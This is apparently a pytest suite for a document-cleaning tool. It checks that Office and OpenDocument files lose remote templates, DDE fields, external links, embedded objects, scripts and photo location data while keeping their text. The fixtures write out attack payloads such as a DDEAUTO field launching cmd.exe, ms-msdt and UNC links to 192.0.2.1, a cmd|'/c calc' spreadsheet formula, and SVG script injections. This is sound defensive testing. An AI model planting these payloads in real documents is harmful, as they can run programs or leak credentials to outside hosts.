"""What a document would fetch, start or tell by itself is gone, and its text stays."""

import io
import zipfile

import pytest
from PIL import Image

from files.changes import Change
from tests.files.cleaning import cleaned
from tests.files.documents import (
    OOXML,
    document,
    everything_in,
    odf,
    office,
    photo_with_place,
    relationships,
)

OUTSIDE = "External"


def test_a_template_from_elsewhere_is_not_fetched() -> None:
    settings = (
        document()
        .replace("w:body", "w:attachedTemplate")
        .replace("<w:attachedTemplate>", '<w:attachedTemplate r:id="rId1">')
    )
    data = office(
        rows=(("rId5", "settings", "settings.xml"),),
        more={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relationships(
                ("rId1", "attachedTemplate", "http://192.0.2.1/evil.dotm", OUTSIDE)
            ),
        },
        types={"/word/settings.xml": f"{OOXML}.wordprocessingml.settings+xml"},
    )
    assert b"192.0.2.1" in everything_in(data)
    found, everything = cleaned(data)
    assert Change.LINKS_REMOVED in found.changes
    assert b"192.0.2.1" not in everything
    assert b"attachedTemplate" not in everything


@pytest.mark.parametrize(
    "kind", ["image", "oleObject", "frame", "subDocument", "video", "hyperlink"]
)
@pytest.mark.parametrize(
    "target", ["file://192.0.2.1/share/a", "\\\\192.0.2.1\\share\\a", "ms-msdt:192.0.2.1"]
)
def test_nothing_outside_is_linked_but_what_somebody_clicks(kind: str, target: str) -> None:
    inside = '<w:p><w:r><v:imagedata r:id="rId7" o:title="x"/></w:r></w:p>'
    found, everything = cleaned(
        office(body=document("Text", inside=inside), rows=(("rId7", kind, target, OUTSIDE),))
    )
    assert b"192.0.2.1" not in everything
    assert b"rId7" not in everything
    assert Change.LINKS_REMOVED in found.changes
    assert b"Text" in everything


def test_an_ordinary_link_stays() -> None:
    inside = '<w:hyperlink r:id="rId7"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
    data = office(
        body=document(inside=inside),
        rows=(("rId7", "hyperlink", "https://school.example/a", OUTSIDE),),
    )
    found, everything = cleaned(data)
    assert b"https://school.example/a" in everything
    assert Change.LINKS_REMOVED not in found.changes


def field(*instruction: str, result: str = "RESULT") -> str:
    words = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in instruction)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{words}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@pytest.mark.parametrize(
    "instruction",
    [
        (" DDEAUTO c:\\windows\\system32\\cmd.exe ", "/k calc"),
        (" D", "DE", "AUTO x y"),
        (' INCLUDEPICTURE "http://192.0.2.1/a.png"',),
        (' includetext "\\\\192.0.2.1\\a.docx"',),
        (" LINK Excel.Sheet.12 x",),
        (" MACROBUTTON x y",),
        (' HYPERLINK "file://192.0.2.1/a"',),
        (' HYPERLINK \\l "x" "\\\\192.0.2.1\\a"',),
    ],
)
def test_a_field_that_fetches_or_starts_something_becomes_its_text(
    instruction: tuple[str, ...],
) -> None:
    found, everything = cleaned(office(body=document(inside=field(*instruction))))
    assert b"instrText" not in everything
    assert b"fldChar" not in everything
    assert b"RESULT" in everything
    assert Change.LINKS_REMOVED in found.changes


def test_a_field_written_by_another_field_becomes_text() -> None:
    inner = field(" QUOTE DDEAUTO ").removeprefix("<w:p>").removesuffix("</w:p>")
    outer = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    found, everything = cleaned(office(body=document(inside=outer)))
    assert everything.count(b'"begin"') == 1
    assert Change.LINKS_REMOVED in found.changes


def test_ordinary_fields_stay() -> None:
    inside = (
        field(" PAGE ")
        + field(' HYPERLINK "https://school.example"')
        + '<w:fldSimple w:instr=" DATE "/>'
    )
    found, everything = cleaned(office(body=document(inside=inside)))
    assert everything.count(b"instrText") == 4
    assert b"fldSimple" in everything
    assert Change.LINKS_REMOVED not in found.changes


def test_a_simple_field_that_fetches_becomes_its_text() -> None:
    inside = '<w:p><w:fldSimple w:instr="DDE x"><w:r><w:t>RESULT</w:t></w:r></w:fldSimple></w:p>'
    _found, everything = cleaned(office(body=document(inside=inside)))
    assert b"fldSimple" not in everything
    assert b"RESULT" in everything


def test_embedded_objects_go_and_their_picture_stays() -> None:
    inside = '<w:object><v:imagedata r:id="rId8"/><o:OLEObject r:id="rId7"/></w:object>'
    data = office(
        body=document("Text", inside=inside),
        rows=(("rId7", "oleObject", "embeddings/a.bin"), ("rId8", "image", "media/a.jpeg")),
        more={"word/embeddings/a.bin": b"MARKER-PROGRAM", "word/media/a.jpeg": photo_with_place()},
    )
    found, everything = cleaned(data)
    assert Change.EMBEDDED_REMOVED in found.changes
    assert b"MARKER-PROGRAM" not in everything
    assert b"OLEObject" not in everything
    assert b"word/media/a.jpeg" in everything


@pytest.mark.parametrize("make", ["office", "odf"])
def test_a_photo_in_a_document_loses_its_place(make: str) -> None:
    photo = photo_with_place()
    assert b"MARKER-CAMERA" in photo
    if make == "office":
        name = "word/media/a.jpeg"
        data = office(rows=(("rId8", "image", "media/a.jpeg"),), more={name: photo})
    else:
        name = "Pictures/a.jpeg"
        data = odf(body='<draw:image xlink:href="Pictures/a.jpeg"/>', more={name: photo})
    found, everything = cleaned(data)
    assert b"MARKER-CAMERA" not in everything
    with zipfile.ZipFile(io.BytesIO(found.data)) as archive:
        picture = Image.open(io.BytesIO(archive.read(name)))
    assert picture.size == (40, 30)
    assert not picture.getexif()


def test_a_drawing_with_a_script_loses_it() -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
        '<rect width="5" onclick="alert(3)"/><image href="http://192.0.2.1/a"/>'
        '<style>@import "http://192.0.2.1/a.css"</style></svg>'
    )
    data = office(
        rows=(("rId8", "image", "media/a.svg"),),
        more={"word/media/a.svg": svg},
        types={"/word/media/a.svg": "image/svg+xml"},
    )
    _found, everything = cleaned(data)
    assert b"rect" in everything
    assert b"alert" not in everything
    assert b"192.0.2.1" not in everything


def test_what_is_no_picture_does_not_stay_as_one() -> None:
    data = office(
        rows=(("rId8", "image", "media/a.jpeg"),), more={"word/media/a.jpeg": b"MZ MARKER"}
    )
    found, everything = cleaned(data)
    assert b"MARKER" not in everything
    assert Change.PICTURES_LEFT_OUT in found.changes


def test_what_nothing_leads_to_is_not_taken_along() -> None:
    _found, everything = cleaned(
        office(more={"word/hidden.exe": b"MARKER", "evil.html": b"MARKER"})
    )
    assert b"MARKER" not in everything


def test_formulas_that_reach_elsewhere_go_and_their_value_stays() -> None:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = (
        f'<worksheet xmlns="{space}"><sheetData><row>'
        "<c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>11</v></c>"
        '<c r="A2"><f>WEBSERVICE("http://192.0.2.1/")</f><v>12</v></c>'
        '<c r="A3"><f t="shared" si="0" ref="A3:A4">[1]Sheet1!A1</f><v>13</v></c>'
        '<c r="A4"><f t="shared" si="0"/><v>14</v></c>'
        '<c r="A5"><f>SUM(A1:A4)</f><v>50</v></c>'
        '<c r="A6"><f>HYPERLINK(A7,"x")</f><v>15</v></c>'
        "</row></sheetData></worksheet>"
    )
    data = office(
        "xlsx",
        body=f'<workbook xmlns="{space}"><externalReferences/></workbook>',
        rows=(("rId1", "worksheet", "worksheets/a.xml"), ("rId2", "externalLink", "ext.xml"),
              ("rId3", "connections", "connections.xml")),
        more={"xl/worksheets/a.xml": sheet, "xl/ext.xml": "<x>192.0.2.1</x>",
              "xl/connections.xml": "<x>192.0.2.1</x>"},
    )  # fmt: skip
    found, everything = cleaned(data)
    assert everything.count(b"<f>") == 1
    assert b"SUM(A1:A4)" in everything
    assert all(f"<v>{n}</v>".encode() in everything for n in (11, 12, 13, 14, 15, 50))
    assert b"192.0.2.1" not in everything
    assert b"externalReferences" not in everything
    assert Change.LINKS_REMOVED in found.changes


def test_on_a_slide_a_click_starts_nothing() -> None:
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    slide = (
        f'<p xmlns:a="{a}"><a:hlinkClick action="ppaction://program"/>'
        '<a:hlinkMouseOver action="ppaction://macro?name=x"/>'
        '<a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></p>'
    )
    data = office(
        "pptx", rows=(("rId1", "slide", "slides/a.xml"),), more={"ppt/slides/a.xml": slide}
    )
    found, everything = cleaned(data)
    assert Change.ACTIONS_REMOVED in found.changes
    assert everything.count(b"ppaction") == 1
    assert b"nextslide" in everything


def test_comments_and_tracked_changes_stay_and_are_told() -> None:
    inside = '<w:p><w:ins w:author="Demo"><w:r><w:t>new</w:t></w:r></w:ins></w:p>'
    found, everything = cleaned(office(body=document(inside=inside)))
    assert Change.COMMENTS_KEPT in found.changes
    assert b'w:author="Demo"' in everything


# --- OpenDocument ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        '<draw:frame><draw:image xlink:href="http://192.0.2.1/a.png"/></draw:frame>',
        '<draw:frame><draw:object xlink:href="file:///192.0.2.1/a.ods"/></draw:frame>',
        '<text:section><text:section-source xlink:href="../192.0.2.1.odt"/></text:section>',
        '<office:dde-source office:dde-application="192.0.2.1"/>',
        '<draw:floating-frame xlink:href="http://192.0.2.1/"/>',
        '<text:a xlink:href="file://192.0.2.1/share">x</text:a>',
        '<text:a xlink:href="vnd.sun.star.script:192.0.2.1">x</text:a>',
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://192.0.2.1&quot;)"/>',
        "<table:table-cell table:formula=\"of:='file:///192.0.2.1/a.ods'#$A.A1\"/>",
        '<form:form xlink:href="http://192.0.2.1/"/>',
        '<form:image form:image-data="http://192.0.2.1/"/>',
    ],
)
def test_an_open_document_fetches_nothing(body: str) -> None:
    found, everything = cleaned(odf(body=f"<text:p>Hello</text:p>{body}"))
    assert b"192.0.2.1" not in everything
    assert b"Hello" in everything
    assert Change.LINKS_REMOVED in found.changes


def test_an_open_document_starts_nothing() -> None:
    body = (
        "<text:p>Hello<office:event-listeners>"
        '<script:event-listener xlink:href="vnd.sun.star.script:a"/>'
        "</office:event-listeners> and goodbye</text:p>"
    )
    found, everything = cleaned(
        odf(body=body, scripts="<office:scripts><office:script/></office:scripts>")
    )
    assert Change.ACTIONS_REMOVED in found.changes
    assert b"script" not in everything.split(b"<office:body>")[1].split(b"</office:body>")[0]
    assert b" and goodbye" in everything


def test_objects_of_other_programs_go_and_charts_stay() -> None:
    body = (
        '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
        '<draw:frame><draw:object-ole xlink:href="./Object 2"/></draw:frame>'
        '<draw:frame><draw:plugin xlink:href="Media/a.mp4"/></draw:frame>'
    )
    more = {"Object 1/content.xml": "<c>CHART</c>", "Object 1/meta.xml": "<m>MARKER</m>",
            "Object 2": b"MARKER", "Media/a.mp4": b"MARKER", "Configurations2/x.xml": "<MARKER/>",
            "Thumbnails/thumbnail.png": b"MARKER"}  # fmt: skip
    found, everything = cleaned(odf(body=body, more=more))
    assert b"CHART" in everything
    assert b"MARKER" not in everything
    assert b"Object 2" not in everything
    assert {Change.EMBEDDED_REMOVED, Change.METADATA_REMOVED} <= found.changes


def test_an_ordinary_link_of_an_open_document_stays() -> None:
    found, everything = cleaned(odf(body='<text:a xlink:href="https://school.example/">x</text:a>'))
    assert b"https://school.example/" in everything
    assert Change.LINKS_REMOVED not in found.changes
